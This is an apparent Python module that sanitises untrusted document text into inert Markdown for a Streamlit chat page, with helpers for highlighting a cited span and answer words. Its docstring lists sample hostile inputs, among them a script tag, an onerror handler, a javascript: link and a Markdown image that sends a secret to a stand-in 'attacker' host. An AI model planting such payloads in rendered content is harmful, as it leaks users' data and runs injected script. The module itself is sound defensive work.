"""Turn untrusted document text into inert Markdown, with one span highlighted.

The chat page shows passages, answers and whole documents through Streamlit's
Markdown renderer, because that is the only safe way it offers to colour part of a
text. Document text is untrusted (an uploaded file can contain ``<script>``,
``<img onerror=...>``, ``![x](http://attacker/?q=secret)`` or ``[click](javascript:...)``),
so every ASCII punctuation character of it is backslash-escaped first
(:func:`escape_markdown`). In CommonMark an escaped punctuation character is always
a literal character: no HTML, link, image, emphasis, heading, list, code, entity,
``$`` maths or ``:colour[...]`` directive can start from document text. Bare URLs
(which GFM links after parsing, escapes or not) get an invisible word joiner.
Only after escaping do we add our own markup: a ``:yellow-background[...]``
directive around the cited span and, nested inside it, ``:orange[**...**]`` (bold
orange text) around the words that answer (never HTML, so the page needs no
``unsafe_allow_html``). The answer is nested rather than put beside the span: a
directive's padding would cut the highlighted sentence in three, and Streamlit drops
a label's trailing blank, which glued the answer to the word before it.

This module produces strings only; it does not import Streamlit or render anything.
"""

from __future__ import annotations

import re
import string
from dataclasses import dataclass
from itertools import groupby

from rag.answering.markers import (
    WORD_JOINER,  # invisible, and not a character an autolink may start after
)

HIGHLIGHT = "yellow-background"
ANSWER_HIGHLIGHT = "orange"  # bold text in this colour: the short answer, inside the span

_PUNCTUATION = frozenset(string.punctuation)  # exactly the ASCII punctuation CommonMark escapes
# GFM turns bare URLs and e-mail addresses into links *after* parsing, so escapes do
# not stop it; an invisible word joiner inside "http:", "www." and "a@b" does.
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=\bwww)(?=\.)|(?<=@)", re.I)
_LINE_BREAK = re.compile(r"(?<!\n)\n(?!\n)")
_WORDS = re.compile(r"\s*\S+")
Piece = tuple[str, str | None, bool]  # text, directive style (None: unmarked), is the answer


@dataclass(frozen=True)
class Segments:
    """A text cut in three around a span: ``before + quote + after == text``."""

    before: str
    quote: str
    after: str


def split_span(text: str, start: int, end: int) -> Segments:
    """Cut *text* at ``[start, end)``; offsets are clamped into the text."""
    start = max(0, min(start, len(text)))
    end = max(start, min(end, len(text)))
    return Segments(text[:start], text[start:end], text[end:])


def escape_markdown(text: str) -> str:
    """*text* as Markdown that renders literally: no markup, links, images or autolinks.

    Every ASCII punctuation character is backslash-escaped, and a word joiner
    (U+2060, invisible) breaks bare URLs and e-mail addresses.
    """
    text = _AUTOLINK.sub(WORD_JOINER, text)
    return "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in text)


def _answer_markdown(text: str) -> str:
    """The short answer, escaped, bold in :data:`ANSWER_HIGHLIGHT`."""
    core = text.strip()
    if not core:
        return escape_markdown(text)
    # Bold cannot open after or close before a blank, so blanks stay outside the stars.
    lead, trail = text[: text.index(core)], text[text.index(core) + len(core) :]
    return f"{lead}:{ANSWER_HIGHLIGHT}[**{escape_markdown(core)}**]{trail}"


def _line_markdown(runs: list[Piece]) -> str:
    """One line: unmarked text escaped, each marked run in its directive."""
    out: list[str] = []
    for style, group in groupby(runs, key=lambda run: run[1]):
        pieces = list(group)
        body = "".join(
            _answer_markdown(t) if answer else escape_markdown(t) for t, _, answer in pieces
        )
        marked = style is not None and any(t.strip() for t, _, _ in pieces)
        out.append(f":{style}[{body}]" if marked else body)
    return "".join(out)


def _lines(pieces: list[Piece]) -> list[list[Piece]]:
    """The pieces cut at newlines (a directive cannot span lines), blanks at line start dropped."""
    lines: list[list[Piece]] = [[]]
    for text, style, answer in _coalesced(pieces):
        for raw in re.split(r"(\n)", text):
            if raw == "\n":
                lines.append([])
                continue
            # Leading blanks would turn a line into a code block.
            part = raw if lines[-1] else raw.lstrip(" \t")
            if part:
                lines[-1].append((part, style, answer))
    return lines


def _pieces_to_markdown(pieces: list[Piece]) -> str:
    """Inert Markdown of consecutive pieces of one text."""
    markdown = "\n".join(_line_markdown(runs) for runs in _lines(pieces))
    # A single newline becomes a hard break (Markdown would join the lines);
    # blank lines stay paragraph breaks.
    return _LINE_BREAK.sub("  \n", markdown)


def _coalesced(pieces: list[Piece]) -> list[Piece]:
    """Neighbours with the same marking joined, so no URL is escaped in two halves."""
    out: list[Piece] = []
    for text, style, answer in pieces:
        if out and out[-1][1:] == (style, answer):
            out[-1] = (out[-1][0] + text, style, answer)
        elif text:
            out.append((text, style, answer))
    return out


def text_markdown(text: str) -> str:
    """Inert Markdown that displays *text* as it is (line breaks kept)."""
    return _pieces_to_markdown([(text, None, False)])


def highlight_markdown(
    text: str,
    start: int,
    end: int,
    style: str = HIGHLIGHT,
    *,
    answer: tuple[int, int] | None = None,
) -> str:
    """Inert Markdown of *text* with ``text[start:end]`` highlighted.

    *style* is a Streamlit colour directive name such as ``blue-background``.
    *answer*, offsets in *text* like *start* and *end*, marks the words that answer
    more strongly inside the span (bold, :data:`ANSWER_HIGHLIGHT`); it is clipped to
    the span and ignored when None or blank.
    """
    seg = split_span(text, start, end)
    inner = _inner_span(seg, answer)
    if inner is None:
        return _pieces_to_markdown(
            [(seg.before, None, False), (seg.quote, style, False), (seg.after, None, False)]
        )
    words = split_span(seg.quote, *inner)
    return _pieces_to_markdown(
        [
            (seg.before, None, False),
            (words.before, style, False),
            (words.quote, style, True),
            (words.after, style, False),
            (seg.after, None, False),
        ]
    )


def _inner_span(seg: Segments, answer: tuple[int, int] | None) -> tuple[int, int] | None:
    """*answer* as offsets into ``seg.quote``, or None when there is nothing to mark."""
    if answer is None:
        return None
    offset = len(seg.before)
    start = max(0, min(answer[0] - offset, len(seg.quote)))
    end = max(start, min(answer[1] - offset, len(seg.quote)))
    return (start, end) if seg.quote[start:end].strip() else None


def stream_pieces(text: str) -> list[str]:
    """*text* cut into word-sized pieces (each with its leading space) for streaming.

    ``"".join(stream_pieces(t)) == t`` apart from trailing whitespace, and a
    ``[n]`` marker is never cut in two.
    """
    return _WORDS.findall(text)
